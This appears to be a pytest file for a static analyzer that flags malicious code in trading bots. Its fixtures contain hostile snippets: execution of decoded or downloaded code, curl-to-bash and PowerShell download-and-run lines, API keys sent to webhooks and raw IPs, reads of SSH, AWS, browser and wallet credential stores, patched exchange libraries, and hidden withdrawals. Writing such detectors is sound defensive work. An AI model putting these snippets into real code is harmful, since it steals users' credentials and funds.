"""Code integrity (BOT501-BOT507, BOT510) and hidden withdrawals (BOT305), through the real
analyzer: the shapes the fixture bots do not show, and the ways code tries to hide from them.

Each case is a small source whose lines that must be reported end with `# BOTxxx` (the
fixtures' `# BOTxxx`, short); every other line must stay silent for the rules under
test.
"""

from __future__ import annotations

import base64
import re
import textwrap
import zlib

import pytest

from botscan.analyzers.python.analyzer import analyze_as_text, analyze_python
from botscan.analyzers.python.decoding import MAX_OUTPUT, decode_text
from botscan.analyzers.python.engine import (
    AssignEvent,
    Detector,
    FileContext,
    parse,
    run_detectors,
)
from botscan.analyzers.python.options import Options
from botscan.analyzers.python.stores import credential_store, normalise

RULES = frozenset({"BOT305", "BOT501", "BOT502", "BOT503", "BOT504", "BOT505", "BOT506",
                   "BOT507", "BOT510"})
_EXPECT = re.compile(r"#\s*(?P<ids>BOT\d{3}(?:\s*,\s*BOT\d{3})*)\s*$")


def _found(source: str, path: str = "bot.py") -> set[tuple[int, str]]:
    result = analyze_python(path, source.encode(), Options(), prefiltered=False)
    return {(f.location.line, f.rule_id) for f in result.findings if f.rule_id in RULES}


def _labels(source: str) -> set[tuple[int, str]]:
    labels = set()
    for number, line in enumerate(source.splitlines(), start=1):
        match = _EXPECT.search(line)
        if match:
            labels |= {(number, r.strip()) for r in match.group("ids").split(",") if r.strip()}
    return labels


def _check(source: str, path: str = "bot.py") -> None:
    source = textwrap.dedent(source)
    assert _found(source, path) == _labels(source)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# --- BOT501: decoded code run ----------------------------------------------------------------

def test_exec_of_decoded_code_in_every_disguise() -> None:
    payload = _b64("print('pwned')")
    _check(f"""
        import base64, builtins, codecs, importlib, marshal, types, zlib
        from base64 import b64decode as d

        e = exec
        run = lambda s: exec(s)
        e(d("{payload}"))  # BOT501
        getattr(builtins, "ex" + "ec")(d("{payload}"))  # BOT501
        __builtins__["exec"](bytes.fromhex("7072696e7428312900"))  # BOT501
        vars(builtins)["eval"](codecs.decode("cevag(1)", "rot13"))  # BOT501
        __import__("builtins").exec(zlib.decompress(d("{payload}")))  # BOT501
        run(importlib.import_module("base64").b64decode("{payload}"))  # BOT501
        types.FunctionType(marshal.loads(d("{payload}")), globals())()  # BOT501
        exec(")1(tnirp"[::-1])  # BOT501
        exec("".join(reversed(")1(tnirp")))  # BOT501
        L = type("loading", (), {{"__init__": lambda self: exec(d("{payload}"))}})  # BOT501
        code = compile(base64.b85decode(b"VPRomVPfRP"), "<x>", "exec")
        exec(code)  # BOT501
    """)


def test_decoded_code_run_through_a_helper_is_reported_at_the_call() -> None:
    _check(f"""
        import base64

        def run_plugin(source):
            exec(source)

        run_plugin(base64.b64decode("{_b64("x = 1")}"))  # BOT501
        run_plugin(open("plugins/local.py").read())
    """)


def test_code_that_is_not_decoded_is_not_bot501() -> None:
    _check("""
        import ast, base64, hashlib, hmac, json, os

        secret = base64.b64decode(os.environ["KUCOIN_API_SECRET"])
        signature = hmac.new(secret, b"payload", hashlib.sha256).hexdigest()
        state = json.loads(base64.b64decode(os.environ.get("BOT_STATE", "e30=")))
        exec(open("strategies/user_strategy.py").read())
        limits = ast.literal_eval(os.environ.get("LIMITS", "{}"))
        total = eval("1 + 2")
        rule = eval(os.environ["ENTRY_RULE"], {"__builtins__": {}}, {"rsi": 30})
    """)


# --- BOT502: downloaded code run ---------------------------------------------------------------

def test_downloaded_code_run_in_every_shape() -> None:
    _check("""
        import os, subprocess, sys, urllib.request
        from pathlib import Path

        import httpx
        import requests

        exec(requests.post("https://sig.example.io/p", json={}).json()["code"])  # BOT502
        exec(httpx.get("https://cdn.example.io/p.py").text)  # BOT502
        subprocess.run(["powershell", "-c", "iwr https://cdn.x.io/a.ps1 | iex"])  # BOT502
        os.popen("bash -c \\"$(curl -fsSL https://cdn.x.io/i.sh)\\"")  # BOT502
        os.system("pip3 install https://cdn.x.io/pkg-1.0.tar.gz")  # BOT502

        def fetch_agent(url: str) -> None:
            resp = requests.get(url, timeout=10)
            target = Path("/tmp/agent")
            target.write_bytes(resp.content)
            os.system(f"chmod +x {target} && {target} --daemon")  # BOT502

        def fetch_script(url: str) -> None:
            body = urllib.request.urlopen(url).read()
            with open("update.sh", "wb") as fh:
                fh.write(body)
            subprocess.call(["bash", "update.sh"])  # BOT502
    """)


def test_a_downloaded_installer_opened_on_windows() -> None:
    _check("""
        import os, urllib.request

        def install_driver() -> None:
            local = os.path.join(os.environ["TEMP"], "driver.exe")
            urllib.request.urlretrieve("https://cdn.x.io/driver.exe", local)
            os.startfile(local)  # BOT502
    """)


def test_downloads_that_are_not_run_stay_silent() -> None:
    _check("""
        import os, subprocess, urllib.request
        import pandas as pd
        import requests

        path = "data/candles.csv"
        urllib.request.urlretrieve("https://data.binance.vision/x/BTCUSDT-1h.zip", "data/x.zip")
        subprocess.run(["unzip", "-o", "data/x.zip", "-d", "data"])
        resp = requests.get("https://raw.githubusercontent.com/org/data/main/candles.csv")
        with open(path, "wb") as fh:
            fh.write(resp.content)
        frame = pd.read_csv(path)
        os.system("curl -s https://api.binance.com/api/v3/ping")
        subprocess.check_call(["pip", "install", "-r", "requirements.txt"])
        subprocess.run(["git", "pull"])
    """)


# --- BOT503: credentials, environment and wallet files sent out -------------------------------

def test_secrets_leaving_for_places_that_are_not_the_exchange() -> None:
    _check("""
        import json, os, smtplib, socket
        import requests
        import telegram

        API_KEY = os.getenv("BINANCE_API_KEY")
        API_SECRET = os.getenv("BINANCE_API_SECRET")
        TELEGRAM_TOKEN = os.getenv("TELEGRAM_TOKEN")
        CHAT = os.getenv("TELEGRAM_CHAT_ID")
        bot = telegram.Bot(TELEGRAM_TOKEN)

        bot.send_message(CHAT, f"started with {API_SECRET}")  # BOT503
        bot.send_message(CHAT, "started")
        requests.post(os.getenv("DISCORD_WEBHOOK_URL"), json={"content": API_KEY})  # BOT503
        requests.post(os.getenv("DISCORD_WEBHOOK_URL"), json={"content": "filled"})
        requests.get(f"https://api.telegram.org/bot{TELEGRAM_TOKEN}/getUpdates")
        requests.get(f"https://api.telegram.org/bot{TELEGRAM_TOKEN}/x?k={API_KEY}")  # BOT503
        requests.post("http://45.13.22.10:8080/c", data=API_KEY)  # BOT503
        requests.post("https://updates.botfarm.xyz/c", data=API_KEY)  # BOT503
        requests.post("https://stats.tl.com/e", json={"s": API_SECRET})  # BOT503
        requests.get("https://stats.tl.com/e", headers={"X-Key": API_KEY})
        requests.post("https://api.binance.com/api/v3/order", params={"signature": API_SECRET})
        requests.post("http://127.0.0.1:8080/local", json={"s": API_SECRET})
        requests.post(CONFIG_URL, json=dict(os.environ))  # BOT503
        requests.post(CONFIG_URL, json={"s": API_SECRET})
        sock = socket.create_connection(("collector.tradelytics.com", 9000))
        sock.sendall(json.dumps({"k": API_KEY}).encode())  # BOT503
        with smtplib.SMTP_SSL("smtp.gmail.com") as mail:
            mail.sendmail("bot@x.org", "me@x.org", f"secret={API_SECRET}")  # BOT503
            mail.sendmail("bot@x.org", "me@x.org", "daily report")
    """)


def test_a_loaded_wallet_sent_to_a_paste_site() -> None:
    _check("""
        import os
        import requests
        from eth_account import Account

        account = Account.from_key(os.environ["WALLET_PRIVATE_KEY"])
        requests.post("https://paste.rs/", data=account.key.hex())  # BOT503
        requests.post("https://paste.rs/", data=account.address)  # BOT510
    """)


def test_wallet_file_contents_and_environment_to_an_unknown_address() -> None:
    _check("""
        import os
        from pathlib import Path
        import requests

        def upload(url: str) -> None:
            keypair = (Path.home() / ".config" / "solana" / "id.json").read_text()  # BOT504
            requests.post(url, data={"k": keypair})  # BOT503
            requests.post(url, data={"env": str(os.environ.copy())})  # BOT503
            requests.post(url, data={"n": 1})
    """)


def test_exfiltration_through_a_helper_and_an_encoded_url() -> None:
    hook = _b64("https://discord.com/api/webhooks/1/abc")
    _check(f"""
        import base64, os
        import requests

        HOOK = base64.b64decode("{hook}").decode()

        def send(payload):
            requests.post(HOOK, json=payload)

        send({{"content": os.environ["BINANCE_API_SECRET"]}})  # BOT503
        send({{"content": "heartbeat"}})
    """)


# --- BOT504: credential stores and the clipboard -----------------------------------------------

def test_reads_of_credential_stores_however_the_path_is_built() -> None:
    _check("""
        import glob, os, shutil, sqlite3, tkinter
        from pathlib import Path

        import win32clipboard
        import pandas as pd

        HOME = os.environ["HOME"]
        keystores = glob.glob(os.path.expanduser("~/.ethereum/keystore/UTC--*"))  # BOT504
        creds = open(os.path.join(HOME, ".aws", "credentials")).read()  # BOT504
        key = (Path.home() / ".ssh" / "id_ed25519").read_text()  # BOT504
        shutil.copy(os.path.join(os.getenv("APPDATA"), "Exodus", "exodus.wallet"), "/tmp")  # BOT504
        db = sqlite3.connect(os.path.expanduser("~/.config/chromium/Default/Login Data"))  # BOT504
        hb = os.listdir("/home/trader/hummingbot/conf/connectors")  # BOT504
        text = tkinter.Tk().clipboard_get()  # BOT504
        win32clipboard.OpenClipboard()
        copied = win32clipboard.GetClipboardData()  # BOT504
        frame = pd.read_clipboard()  # BOT504
        own = os.listdir("conf/connectors")
        cfg = open(os.path.join(os.path.dirname(__file__), "config.json")).read()
        data = open(os.path.expanduser("~/bot-data/candles.csv")).read()
        known = open(os.path.expanduser("~/.ssh/known_hosts")).read()
    """)


@pytest.mark.parametrize(("path", "store"), [
    ("~/.ssh/id_rsa", "SSH keys"),
    ("$HOME/.aws/credentials", "cloud credentials"),
    ("%APPDATA%\\Electrum\\wallets\\default_wallet", "a desktop wallet"),
    ("C:\\Users\\me\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cookies",
     "a browser profile"),
    ("~/.config/BraveSoftware/Brave-Browser/Default/Local Extension Settings/"
     "nkbihfbeogaeaoehlefnkodbefgpgknn", "a browser profile"),
    ("/root/freqtrade/user_data/config.json", "another bot's exchange keys"),
    ("user_data/config.json", None),
    ("./conf/connectors/binance.yml", None),
    ("~/.bashrc", None),
])
def test_credential_store_table(path: str, store: str | None) -> None:
    assert credential_store(normalise(path)) == store


# --- BOT505: patched exchange and wallet libraries ----------------------------------------------

def test_library_patches_and_what_is_not_one() -> None:
    source = """
        import ccxt
        from binance.client import Client
        from eth_account import Account

        def spy(*args, **kwargs):
            return None

        exchange = ccxt.okx({"enableRateLimit": True})
        exchange.prepare_request_headers = spy  # BOT505
        setattr(ccxt.bybit, "fetch2", spy)  # BOT505
        Client._request = spy  # BOT505
        Account.create = spy  # BOT505
        ccxt.mexc = type("Mexc", (ccxt.mexc,), {})  # BOT505
        exchange.options["defaultType"] = "swap"
        exchange.verbose = False
        exchange.markets = {}

        class Patched(ccxt.okx):
            def sign(self, *args, **kwargs):
                return super().sign(*args, **kwargs)
    """
    _check(source)
    assert not _found(textwrap.dedent(source), "tests/test_okx.py")  # tests patch with mocks


# --- BOT506: install-time code -----------------------------------------------------------------

SETUP_SOURCE = """
    import os, subprocess, sys, urllib.request
    from setuptools import setup
    from setuptools.command.build_py import build_py

    version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
    flags = subprocess.check_output("uname").decode()
    exec(open("pkg/_version.py").read())
    exec(open("/etc/bot/setup_hook.py").read())  # BOT506
    os.system("pip install -r requirements.txt")  # BOT506
    subprocess.run("git describe | tee version.txt", shell=True)  # BOT506


    def fetch_model():
        urllib.request.urlopen("https://models.example-ml.io/latest")  # BOT506


    class Build(build_py):
        def run(self):
            fetch_model()
            build_py.run(self)


    commands = {"build_py": Build, "build_ext": Build}
    setup(name="pkg", version=version, cmdclass=commands)
"""


def test_install_time_code_in_setup_py() -> None:
    source = textwrap.dedent(SETUP_SOURCE)
    labels = _labels(source)
    hook = next(n for n, line in enumerate(source.splitlines(), 1) if line.startswith("commands"))
    assert _found(source, "pkg/setup.py") == labels | {(hook, "BOT506")}


def test_install_time_rules_are_for_setup_py_only() -> None:
    assert not {r for _, r in _found(textwrap.dedent(SETUP_SOURCE), "tools/build.py")
                if r == "BOT506"}


# --- BOT507: obfuscation -----------------------------------------------------------------------

def test_obfuscation_signs_and_their_lookalikes() -> None:
    blob = base64.b64encode(bytes((i * 7919) % 251 for i in range(600))).decode()
    hex_blob = bytes(range(256)).hex() * 2
    soup = "".join(f"\\x{b:02x}" for b in b"import os; os.system('id'); print('done!!')" * 2)
    octal = "".join(f"\\{b:03o}" for b in b"__import__('os').system('id') or None; x=1" * 2)
    zeros = "\\x00" * 80
    far = " " * 40 + "\t" * 20
    _check(f"""
        PAYLOAD = "{blob}"  # BOT507
        HEX = "{hex_blob}"  # BOT507
        SHORT = "{blob[:511]}"
        CERT = "MII{blob[3:]}"
        EVM = "0x{hex_blob}"
        ICON = "data:image/png;base64,{blob}"
        SOUP = "{soup}"  # BOT507
        OCTAL = "{octal}"  # BOT507
        PADDING = b"{zeros}"
        x = 1;{far}import os  # BOT507
        y = 2{" " * 200}# a comment pushed right is not code
        z = "{" " * 210}x"
        # \u2066 isolate  # BOT507
    """)


def test_obfuscation_is_found_in_files_that_do_not_parse() -> None:
    source = 'import requests\nprint "python 2"\n' + "from pytransform import pyarmor_runtime\n"
    result = analyze_python("legacy.py", source.encode(), Options())
    assert [(f.location.line, f.rule_id) for f in result.findings] == [(3, "BOT507")]
    assert [n.kind.value for n in result.notices] == ["not-parsed"]
    text_only = analyze_as_text("legacy.py", source.encode())
    assert [(f.location.line, f.rule_id) for f in text_only.findings] == [(3, "BOT507")]


def test_blobs_in_test_files_are_test_vectors() -> None:
    blob = base64.b64encode(bytes(range(256)) * 3).decode()
    assert not _found(f'VECTOR = "{blob}"\n', "tests/test_vectors.py")


# --- BOT510: places no bot needs ---------------------------------------------------------------

def test_suspicious_endpoints_without_secrets() -> None:
    source = f"""
        import base64, socket
        import requests
        import websocket

        sub = "a1b2c3"
        requests.get("https://api.ipify.org?format=json")  # BOT510
        requests.get(f"https://{{sub}}.ngrok-free.app/cmd")  # BOT510
        requests.get("https://bit.ly/3xYzAbC")  # BOT510
        websocket.create_connection("ws://91.215.85.17:9001")  # BOT510
        socket.socket().connect(("91.215.85.17", 4444))  # BOT510
        requests.get(base64.b64decode("{_b64('https://status.tl.com/')}").decode())  # BOT510
        requests.get("http://192.168.1.20:8080/signals")
        requests.get("https://api.coingecko.com/api/v3/ping")
        requests.get("https://fapi.binance.com/fapi/v1/ping")
    """
    _check(source)
    assert not {r for _, r in _found(textwrap.dedent(source), "tests/test_net.py")
                if r == "BOT510"}


# --- BOT305: a withdrawal hidden behind getattr --------------------------------------------------

def test_withdrawal_names_hidden_behind_getattr() -> None:
    _check("""
        import ccxt

        ex = ccxt.kucoin()
        to = "TXyZ9kq3LrJ5DmPuT8nB4vF2wQa6sEe1Hc"
        getattr(ex, "".join(["with", "draw"]))("USDT", 5, to)  # BOT305
        getattr(ex, "wardhtiw"[::-1])("USDT", 5, to)  # BOT305

        def call(method: str) -> None:
            getattr(ex, method)("USDT", 5, to)
    """)


# --- the concepts underneath ---------------------------------------------------------------------

def test_static_decoding_is_bounded() -> None:
    bomb = zlib.compress(b"\0" * (10 * MAX_OUTPUT))
    decoded = decode_text("zlib", bomb.decode("latin-1"))
    assert decoded is not None and len(decoded) == MAX_OUTPUT
    assert decode_text("base64", "not base64 at all!") is None
    assert decode_text("marshal", "c\x00") is None  # code objects are never built


class _Assigned(Detector):
    """Records what the resolver says each assigned value is."""

    def __init__(self) -> None:
        self.names: list[str | None] = []

    def on_assign(self, ev: AssignEvent, ctx: FileContext) -> None:
        self.names.append(ctx.resolver.qualname(ev.value, ev.scope))


@pytest.mark.parametrize(("expression", "qualname"), [
    ('__import__("os.path").join', "os.join"),
    ('__import__("os.path", fromlist=["join"]).join', "os.path.join"),
    ('importlib.import_module("os.path").join', "os.path.join"),
    ('globals()["__builtins__"].exec', "builtins.exec"),
    ('__builtins__.__dict__["eval"]', "builtins.eval"),
    ('vars(builtins)["compile"]', "builtins.compile"),
])
def test_dynamic_spellings_resolve(expression: str, qualname: str) -> None:
    recorder = _Assigned()
    module = parse(f"import builtins, importlib\nx = {expression}\n")
    run_detectors(module, [recorder], FileContext("t.py", Options()))
    assert recorder.names == [qualname]
